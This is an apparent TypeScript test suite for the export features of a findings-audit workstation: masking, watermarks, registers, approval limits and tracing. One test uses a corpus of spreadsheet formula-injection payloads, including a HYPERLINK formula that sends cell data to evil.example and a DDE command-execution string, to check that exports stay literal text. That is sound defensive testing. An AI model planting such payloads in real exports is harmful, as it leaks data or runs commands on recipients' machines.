/**
 * Exports of the findings list through the service contract: inside the scope, masked by role, watermarked, registered
 * row by row and audited; no cell of a payload corpus becomes a formula in CSV or xlsx; too large an export is refused
 * and leaves nothing behind.
 */
import { execFileSync } from 'node:child_process';
import { readFileSync, readdirSync, existsSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import yauzl from 'yauzl';
import type { Database } from 'better-sqlite3-multiple-ciphers';
import { afterEach, describe, expect, it } from 'vitest';
import { convertWithLibreOffice } from '../helpers/libreoffice.js';
import { addMember, makeBench, withStaff, type TestBench, waitForRun } from '../helpers/workstation.js';
import { humanTextProblems } from '../helpers/human-text.js';
import { formatLocalTime } from '../../src-main/domain/local-time.js';

const STREET = '320111004';
const FULL_ID = /(?<![0-9])[0-9]{17}[0-9X](?![0-9])/;
const sort = { column: 'priority' as const, direction: 'desc' as const };
const PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "=cmd|' /C calc'!A0", '@SUM(1)', '+1+1', '-2+3', '\t=1+1', '\r=1+1', '\n=1+1', '含"引号"的名字'];

let b: TestBench;
afterEach(() => b.cleanup());

async function setUp(maxExportRows?: number) {
  b = makeBench(maxExportRows ? { maxExportRows } : {});
  const staff = await withStaff(b, [STREET]);
  await b.ok('auditor-client', 'checks.run', {});
  await waitForRun(b, 'auditor-client');
  return staff;
}

function sheetXml(file: string): Promise<string> {
  return new Promise((resolve, reject) => {
    yauzl.open(file, { lazyEntries: true }, (err, zip) => {
      if (err || !zip) return reject(err);
      let xml = '';
      zip.on('entry', (entry: yauzl.Entry) => {
        if (!/^xl\/worksheets\/sheet\d+\.xml$/.test(entry.fileName)) return zip.readEntry();
        zip.openReadStream(entry, (e, stream) => {
          if (e || !stream) return reject(e);
          stream.on('data', (c: Buffer) => (xml += c.toString('utf8')));
          stream.on('end', () => zip.readEntry());
        });
      });
      zip.on('end', () => resolve(xml));
      zip.readEntry();
    });
  });
}

describe('exports', () => {
  it('writes the filtered findings inside the scope, masked, watermarked, registered and audited', async () => {
    await setUp();
    const inbox = await b.ok('auditor-client', 'inbox.page', { filter: {}, sort, offset: 0, limit: 500 });
    const csv = await b.ok('auditor-client', 'export.findings', { format: 'csv', purpose: '季度核查', filter: {}, sort });
    expect(csv.rows).toBe(inbox.total);
    const text = readFileSync(csv.file, 'utf8');
    expect(text).not.toMatch(FULL_ID);
    const records = parse(text.replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][];
    expect(records[0]![0]).toContain(csv.exportId);
    expect(records[0]![0]).toContain('季度核查');
    const rows = records.slice(2);
    expect(rows).toHaveLength(inbox.total);
    expect(rows.every((r) => r[6]!.startsWith(STREET))).toBe(true);
    // Rows are named by keyed marks, never by fingerprints (an unkeyed hash of the ID number).
    const marks = rows.map((r) => r[0]!);
    expect(new Set(marks).size).toBe(rows.length);
    expect(marks.every((m) => /^[0-9A-HJKMNP-TV-Z]{12}$/.test(m))).toBe(true);
    for (const r of inbox.rows) expect(text).not.toContain(r.fingerprint);

    const xlsx = await b.ok('auditor-client', 'export.findings', { format: 'xlsx', purpose: '季度核查', recipient: '区审计局', filter: { ruleIds: ['R-DEATH'] }, sort });
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(xlsx.file);
    const sheet = workbook.getWorksheet('导出')!;
    expect(String(sheet.getCell('A1').value)).toContain(xlsx.exportId);
    expect(sheet.headerFooter.oddHeader).toContain(xlsx.exportId);
    expect(workbook.getWorksheet('_export')!.state).toBe('veryHidden');
    expect(sheet.rowCount - 2).toBe(xlsx.rows);
    expect(typeof sheet.getCell('I3').value).toBe('number');
    // The findings list in words (类别, 变化, 案件状态 named). Left out: the row marks (线索编号, random keyed
    // identifiers) and the rule ids (the one code kept, beside the rule's name).
    const listText: string[] = [];
    sheet.eachRow((row, n) => n > 2 && row.eachCell((c, col) => col > 2 && listText.push(String(c.value ?? ''))));
    expect(humanTextProblems(listText.join('\n').replace(/\u200B|\u200C|\u200D|\u2060/g, ''))).toEqual([]);
    expect(await sheetXml(xlsx.file)).not.toMatch(FULL_ID);

    const register = await b.ok('auditor-client', 'export.mine');
    expect(register.map((e) => e.exportId)).toEqual([xlsx.exportId, csv.exportId]);
    expect(register[0]).toMatchObject({ recipient: '区审计局', rowCount: xlsx.rows, fileSha256: xlsx.sha256, status: 'complete', username: 'auditor1' });
    // A colleague's exports are not theirs to list; the supervisor sees the whole register.
    expect(await b.ok('finance-client', 'export.mine')).toEqual([]);
    expect((await b.ok('supervisor-client', 'export.register', {})).map((e) => e.exportId)).toEqual([xlsx.exportId, csv.exportId]);
    expect(await b.call('auditor-client', 'export.register', {})).toMatchObject({ ok: false, error: { code: 'FORBIDDEN_ROLE' } });
    // Which exports held a given finding: a death finding was in both, any other only in the CSV (found by the keyed
    // identity mark the register keeps, not by a search of the files).
    const ofFinding = async (ruleId: string, inRule: boolean) => {
      const row = inbox.rows.find((r) => r.caseRuleIds.includes(ruleId) === inRule)!;
      return (await b.ok('supervisor-client', 'export.ofFinding', { fingerprint: row.fingerprint })).map((e) => e.exportId).sort();
    };
    expect(await ofFinding('R-DEATH', true)).toEqual([xlsx.exportId, csv.exportId].sort());
    expect(await ofFinding('R-DEATH', false)).toEqual([csv.exportId]);
    expect(await b.call('auditor-client', 'export.ofFinding', { fingerprint: inbox.rows[0]!.fingerprint })).toMatchObject({ ok: false, error: { code: 'FORBIDDEN_ROLE' } });
    const history = (await b.ok('auditor-client', 'audit.myHistory', { limit: 10 })).entries;
    expect(history.find((e) => e.action === 'export.registered' && e.target === xlsx.exportId)).toBeTruthy();
    expect(history.find((e) => e.action === 'export.findings' && e.outcome === 'ok')).toBeTruthy();
  });

  it('masks names for finance staff, and a wider division than the scope is refused', async () => {
    await setUp();
    const out = await b.ok('finance-client', 'export.findings', { format: 'csv', purpose: '资金复核', filter: {}, sort });
    const rows = (parse(readFileSync(out.file, 'utf8').replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][]).slice(2);
    const names = rows.map((r) => r[4]!).filter(Boolean);
    expect(names.length).toBeGreaterThan(0);
    expect(names.every((n) => /^.\*+$/u.test(n))).toBe(true);
    expect(await b.call('finance-client', 'export.findings', { format: 'csv', purpose: '资金复核', filter: {}, divisionPrefix: '320111', sort })).toMatchObject({
      ok: false,
      error: { code: 'OUT_OF_SCOPE' },
    });
  });

  it('never writes a formula: a payload corpus stays literal text in CSV and xlsx', async () => {
    const staff = await setUp();
    const teamDb = (b.ws.internals.team.forUser(staff.auditor.id) as unknown as { db: Database }).db;
    const ids = teamDb.prepare('SELECT fingerprint FROM finding WHERE division_code LIKE ? AND case_lead = 1 LIMIT ?').pluck().all(`${STREET}%`, PAYLOADS.length) as string[];
    expect(ids).toHaveLength(PAYLOADS.length);
    ids.forEach((fp, i) => teamDb.prepare('UPDATE finding SET subject_name = ? WHERE fingerprint = ?').run(PAYLOADS[i], fp));

    const xlsx = await b.ok('auditor-client', 'export.findings', { format: 'xlsx', purpose: '注入测试', filter: {}, sort });
    const xml = await sheetXml(xlsx.file);
    expect(xml).not.toMatch(/<f[ >]/);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(xlsx.file);
    const names: string[] = [];
    workbook.getWorksheet('导出')!.eachRow((row, n) => {
      if (n > 2) names.push(String(row.getCell(5).value ?? ''));
    });
    // XML turns a carriage return into a line feed when read back; compare with that in mind.
    const lf = (v: string) => v.replace(/\r\n?/g, '\n');
    for (const payload of PAYLOADS) {
      const cell = names.find((v) => lf(v).endsWith(lf(payload)));
      expect(cell, payload).toBeDefined();
      expect(/^[=+\-@\t\r\n]/.test(cell!), payload).toBe(false);
    }

    // After LibreOffice opens and re-saves it (as xlsx, and as CSV), every cell is still literal text.
    const out = join(b.dir, 'lo');
    const [resaved] = convertWithLibreOffice([xlsx.file], 'xlsx', out);
    expect(await sheetXml(resaved!)).not.toMatch(/<f[ >]/);
    const again = new ExcelJS.Workbook();
    await again.xlsx.readFile(resaved!);
    const afterLo: string[] = [];
    again.getWorksheet('导出')!.eachRow((row, n) => {
      row.eachCell((cell) => expect(cell.formula, `row ${n}`).toBeUndefined());
      // LibreOffice writes mixed-script text as rich text (runs in two fonts): still literal text.
      const v = row.getCell(5).value;
      if (n > 2) afterLo.push(v && typeof v === 'object' && 'richText' in v ? v.richText.map((r) => r.text).join('') : String(v ?? ''));
    });
    for (const payload of PAYLOADS) {
      const cell = afterLo.find((v) => lf(v).endsWith(lf(payload)));
      expect(cell, payload).toBeDefined();
      expect(/^[=+\-@\t\r\n]/.test(cell!), payload).toBe(false);
    }
    const [loCsv] = convertWithLibreOffice([xlsx.file], 'csv', out);
    const loRows = parse(readFileSync(loCsv!, 'utf8'), { relax_column_count: true }) as string[][];
    for (const payload of PAYLOADS.filter((p) => !/[\r\n]/.test(p))) {
      const cell = loRows.map((r) => r[4] ?? '').find((v) => v.endsWith(payload));
      expect(cell, payload).toBeDefined();
      expect(/^[=+\-@\t]/.test(cell!), payload).toBe(false);
    }

    const csv = await b.ok('auditor-client', 'export.findings', { format: 'csv', purpose: '注入测试', filter: {}, sort });
    const rows = (parse(readFileSync(csv.file, 'utf8').replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][]).slice(2);
    for (const payload of PAYLOADS) {
      const cell = rows.map((r) => r[4]!).find((v) => v.endsWith(payload) || v === payload);
      expect(cell, payload).toBeDefined();
      expect(/^[=+\-@\t\r\n]/.test(cell!), payload).toBe(false);
    }
  });

  it('refuses an export above the size limit, leaving no file and no register entry', async () => {
    await setUp(3);
    const r = await b.call('auditor-client', 'export.findings', { format: 'xlsx', purpose: '全部导出', filter: {}, sort });
    expect(r).toMatchObject({ ok: false, error: { code: 'EXPORT_TOO_LARGE' } });
    const dir = join(b.dir, 'exports', 'auditor1');
    expect(existsSync(dir) ? readdirSync(dir) : []).toEqual([]);
    expect(await b.ok('auditor-client', 'export.mine')).toEqual([]);
  });

  it('exports above the limit once a supervisor approved that very export, and only once', async () => {
    await setUp(3);
    const ask = { format: 'xlsx' as const, purpose: '全部导出', filter: {}, sort };
    const request = await b.ok('auditor-client', 'export.requestApproval', ask);
    expect(request.rows).toBeGreaterThan(3);
    // The requester cannot approve; finance cannot; the supervisor sees it pending.
    expect(await b.call('auditor-client', 'export.decide', { requestId: request.requestId, approve: true })).toMatchObject({ ok: false, error: { code: 'FORBIDDEN_ROLE' } });
    const pending = await b.ok('supervisor-client', 'export.requests');
    expect(pending).toMatchObject([{ requestId: request.requestId, state: 'pending', rows: request.rows, username: 'auditor1' }]);
    expect(await b.call('auditor-client', 'export.findings', { ...ask, approvalId: request.requestId })).toMatchObject({ ok: false, error: { code: 'EXPORT_NOT_APPROVED' } });

    const decided = await b.ok('supervisor-client', 'export.decide', { requestId: request.requestId, approve: true, note: '同意，限内部使用' });
    expect(decided).toMatchObject({ state: 'approved', decidedName: 'supervisor 一' });
    // Bound to the query, format and purpose asked for.
    expect(await b.call('auditor-client', 'export.findings', { ...ask, purpose: '别的用途', approvalId: request.requestId })).toMatchObject({ ok: false, error: { code: 'EXPORT_NOT_APPROVED' } });
    expect(await b.call('auditor-client', 'export.findings', { ...ask, format: 'csv', approvalId: request.requestId })).toMatchObject({ ok: false, error: { code: 'EXPORT_NOT_APPROVED' } });
    // Another member cannot spend it.
    expect(await b.call('finance-client', 'export.findings', { ...ask, approvalId: request.requestId })).toMatchObject({ ok: false, error: { code: 'EXPORT_NOT_APPROVED' } });

    const done = await b.ok('auditor-client', 'export.findings', { ...ask, approvalId: request.requestId });
    expect(done.rows).toBe(request.rows);
    const [entry] = await b.ok('auditor-client', 'export.mine');
    expect(entry).toMatchObject({ exportId: done.exportId, approvalId: request.requestId });
    expect((await b.ok('auditor-client', 'export.requests'))[0]).toMatchObject({ state: 'used', exportId: done.exportId });
    expect(await b.call('auditor-client', 'export.findings', { ...ask, approvalId: request.requestId })).toMatchObject({ ok: false, error: { code: 'EXPORT_NOT_APPROVED' } });

    // A supervisor's own request waits for another supervisor.
    const own = await b.ok('supervisor-client', 'export.requestApproval', ask);
    expect(await b.call('supervisor-client', 'export.decide', { requestId: own.requestId, approve: true })).toMatchObject({ ok: false, error: { code: 'EXPORT_NOT_APPROVED' } });
    const history = (await b.ok('supervisor-client', 'audit.myHistory', { limit: 20 })).entries;
    expect(history.find((e) => e.action === 'export.decide' && e.target === request.requestId && e.outcome === 'ok')).toBeTruthy();
  });

  it('caps exports without approval at five times the limit over 7 days: many exports just under it add up', async () => {
    const staff = await setUp();
    const filter = { ruleIds: ['R-HUKOU-OUT'], findingState: 'all' as const };
    const rows = (await b.ok('auditor-client', 'inbox.page', { filter, sort, offset: 0, limit: 1 })).total;
    expect(rows).toBeGreaterThan(0);
    // The limit is exactly one such export: five of them fit in the week's cap, the sixth does not.
    await b.ok('supervisor-client', 'export.setPolicy', { maxRowsWithoutApproval: rows });
    for (let i = 0; i < 5; i++) expect((await b.ok('auditor-client', 'export.findings', { format: 'csv', purpose: `分批导出${i}`, filter, sort })).rows).toBe(rows);
    const ask = { format: 'csv' as const, purpose: '第六批', filter, sort };
    const refused = await b.call('auditor-client', 'export.findings', ask);
    expect(refused).toMatchObject({ ok: false, error: { code: 'EXPORT_TOO_LARGE', details: { rows, limit: rows, recentRows: 5 * rows } } });
    expect(!refused.ok && refused.error.message).toMatch(/last 7 days/);
    // Another user's week is their own.
    expect(await b.call('finance-client', 'export.findings', ask)).toMatchObject({ ok: true });
    // An approval of that very export lets it through, and approved rows do not count towards the cap.
    const request = await b.ok('auditor-client', 'export.requestApproval', ask);
    await b.ok('supervisor-client', 'export.decide', { requestId: request.requestId, approve: true });
    expect(await b.call('auditor-client', 'export.findings', { ...ask, approvalId: request.requestId })).toMatchObject({ ok: true });
    // Raising the limit takes a second supervisor (lowering it took one): a proposal until another asks for the same.
    const raised = await b.ok('supervisor-client', 'export.setPolicy', { maxRowsWithoutApproval: rows * 10 });
    expect(raised).toMatchObject({ maxRowsWithoutApproval: rows, proposal: { rows: rows * 10, byName: 'supervisor 一' } });
    expect(await b.ok('supervisor-client', 'export.setPolicy', { maxRowsWithoutApproval: rows * 10 })).toMatchObject({ maxRowsWithoutApproval: rows });
    await addMember(b, 'supervisor-client', { client: 'sup2-client', username: 'sup2', role: 'supervisor', scope: [STREET], password: 'sup2-pass-5678' });
    expect(await b.ok('sup2-client', 'export.setPolicy', { maxRowsWithoutApproval: rows * 10 })).toEqual({ maxRowsWithoutApproval: rows * 10, proposal: null });
    await b.ok('supervisor-client', 'export.setPolicy', { maxRowsWithoutApproval: rows });
    // A week later the cap starts again.
    b.clock.advance(7 * 86_400_000 + 1000);
    await b.ok('auditor-client', 'auth.login', { username: 'auditor1', password: staff.auditor.password });
    expect(await b.call('auditor-client', 'export.findings', { ...ask, purpose: '下周' })).toMatchObject({ ok: true });
  });

  it('writes PDF with the watermark on every page, masked by role, and traceable from its copied text', async () => {
    await setUp();
    const auditor = await b.ok('auditor-client', 'export.findings', { format: 'pdf', purpose: '打印核查', filter: {}, sort });
    const finance = await b.ok('finance-client', 'export.findings', { format: 'pdf', purpose: '资金复核', filter: {}, sort });
    for (const [out, financeRole] of [
      [auditor, false],
      [finance, true],
    ] as const) {
      expect(readFileSync(out.file).subarray(0, 5).toString()).toBe('%PDF-');
      const pages = execFileSync('pdftotext', ['-raw', out.file, '-'], { encoding: 'utf8' }).split('\f').filter((p) => p.trim());
      expect(pages.length).toBeGreaterThan(0);
      // The tiled watermark (user, time, export id) and the footer are on every page.
      for (const page of pages) expect(page.replace(/\s/g, '')).toContain(out.exportId);
      const table = execFileSync('pdftotext', ['-nodiag', '-layout', out.file, '-'], { encoding: 'utf8' });
      expect(table).not.toMatch(FULL_ID);
      expect(table).toMatch(/[0-9]{3}\*+[0-9X]{4}/);
      // A full name, as an auditor sees it (finance staff see names masked on screen too).
      const inbox = await b.ok('auditor-client', 'inbox.page', { filter: {}, sort, offset: 0, limit: 500 });
      const someName = inbox.rows.find((r) => r.subjectName && r.subjectName.length >= 2)!.subjectName!;
      if (financeRole) expect(table).not.toContain(someName);
      else expect(table).toContain(someName);
      // Copy the text out of the PDF and paste it: the row marks name the export.
      const trace = await b.ok('supervisor-client', 'export.trace', { text: table });
      expect(trace.candidates[0]).toMatchObject({ exportId: out.exportId, attributed: true });
    }
  });

  it("exports a person's file and a case file, masked by role, registered, traceable", async () => {
    await setUp();
    const inbox = await b.ok('auditor-client', 'inbox.page', { filter: { ruleIds: ['R-DEATH'] }, sort, offset: 0, limit: 5 });
    const finding = inbox.rows.find((r) => r.personRef)!;
    const person = await b.ok('auditor-client', 'export.person', { personRef: finding.personRef!, format: 'xlsx', purpose: '入户核查准备' });
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(person.file);
    const cells: string[] = [];
    workbook.getWorksheet('导出')!.eachRow((row) => row.eachCell((c) => cells.push(String(c.value ?? ''))));
    // What a reader sees: the invisible tag inside the section labels left out.
    const text = cells.join('\n').replace(/\u200B|\u200C|\u200D|\u2060/g, '');
    expect(text).toContain(finding.subjectName!);
    expect(text).toContain(finding.subjectLabel);
    expect(text).not.toMatch(FULL_ID);
    expect(text).toContain('家庭成员');
    // Every cell in words: no codes, no English, no JSON, no whole ID number (row marks, 12 characters, are the
    // export's keyed identifiers; the username is the exporter's own).
    const words = (x: string) => humanTextProblems(x.replace(/(?<![0-9A-Z])[0-9A-Z]{12}(?![0-9A-Z])/g, ''), ['auditor']);
    expect(words(text)).toEqual([]);

    const financePerson = await b.ok('finance-client', 'export.person', { personRef: finding.personRef!, format: 'csv', purpose: '资金复核' });
    const financeText = readFileSync(financePerson.file, 'utf8');
    expect(financeText).not.toContain(finding.subjectName!);
    expect(financeText).not.toMatch(FULL_ID);

    const caseFile = await b.ok('auditor-client', 'export.case', { fingerprint: finding.fingerprint, format: 'pdf', purpose: '案卷归档' });
    const pdfText = execFileSync('pdftotext', ['-nodiag', '-layout', caseFile.file, '-'], { encoding: 'utf8' });
    // The whole case (一人一案): the person's 死亡未停保 and 死亡后发放 side by side, money counted once.
    expect(pdfText).toContain('死亡未停保');
    expect(pdfText).toContain('死亡后发放');
    expect(pdfText).toContain('每笔发放只计一次');
    expect(pdfText).toContain('政策依据');
    expect(words(pdfText)).toEqual([]);
    expect(pdfText).not.toMatch(FULL_ID);

    const register = await b.ok('supervisor-client', 'export.register', {});
    expect(register.map((e) => e.kind).sort()).toEqual(['case', 'person', 'person']);
    // A few rows of the person's file, pasted, lead back to it.
    const lines = parse(financeText.replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][];
    const trace = await b.ok('supervisor-client', 'export.trace', { text: lines.slice(3, 8).map((r) => r.join('\t')).join('\n') });
    expect(trace.candidates[0]).toMatchObject({ exportId: financePerson.exportId, attributed: true });
    const history = (await b.ok('auditor-client', 'audit.myHistory', { limit: 20 })).entries;
    expect(history.find((e) => e.action === 'export.person' && e.outcome === 'ok')).toBeTruthy();
  });

  it("dates a case file's history in the reader's time zone, not the machine's", async () => {
    await setUp();
    const finding = (await b.ok('auditor-client', 'inbox.page', { filter: {}, sort, offset: 0, limit: 5 })).rows[0]!;
    await b.ok('auditor-client', 'case.bulk', { fingerprints: [finding.fingerprint], command: { kind: 'note', text: '已电话联系' }, apply: true });
    const at = (await b.ok('auditor-client', 'finding.detail', { fingerprint: finding.fingerprint })).events.at(-1)!.at;
    const history = async () => {
      const file = (await b.ok('auditor-client', 'export.case', { fingerprint: finding.fingerprint, format: 'csv', purpose: '案卷归档' })).file;
      return (parse(readFileSync(file, 'utf8').replace(/^\uFEFF/, '').replace(/\u200B|\u200C|\u200D|\u2060/g, ''), { relax_column_count: true }) as string[][]).filter((r) => r[1] === '历史');
    };
    // The auditor reads Beijing time; so does the file, whatever zone the machine runs in.
    await b.ok('auditor-client', 'settings.update', { timeZone: 'Asia/Shanghai' });
    expect((await history()).map((r) => r[4])).toContain(formatLocalTime(at, { timeZone: 'Asia/Shanghai' }));
    await b.ok('auditor-client', 'settings.update', { timeZone: 'Asia/Urumqi' });
    expect((await history()).map((r) => r[4])).toContain(formatLocalTime(at, { timeZone: 'Asia/Urumqi' }));
  });

  it('masks by role in every format: ID numbers for all, names for finance', async () => {
    await setUp();
    const inbox = await b.ok('auditor-client', 'inbox.page', { filter: {}, sort, offset: 0, limit: 500 });
    const names = [...new Set(inbox.rows.map((r) => r.subjectName).filter((n): n is string => !!n && n.length >= 2))].slice(0, 20);
    expect(names.length).toBeGreaterThan(5);
    const textOf = async (file: string, format: 'csv' | 'xlsx' | 'pdf') => {
      if (format === 'csv') return readFileSync(file, 'utf8');
      if (format === 'pdf') return execFileSync('pdftotext', ['-nodiag', '-layout', file, '-'], { encoding: 'utf8' });
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.readFile(file);
      const cells: string[] = [];
      for (const sheet of workbook.worksheets) sheet.eachRow((row) => row.eachCell((c) => cells.push(String(c.value ?? ''))));
      return cells.join('\n');
    };
    for (const role of ['auditor', 'supervisor', 'finance'] as const) {
      for (const format of ['csv', 'xlsx', 'pdf'] as const) {
        const out = await b.ok(`${role}-client`, 'export.findings', { format, purpose: '角色遮蔽检查', filter: {}, sort });
        const text = await textOf(out.file, format);
        expect(text, `${role} ${format}`).not.toMatch(FULL_ID);
        const shown = names.filter((n) => text.includes(n)).length;
        if (role === 'finance') expect(shown, `${role} ${format}`).toBe(0);
        else expect(shown, `${role} ${format}`).toBe(names.length);
      }
    }
  });
});
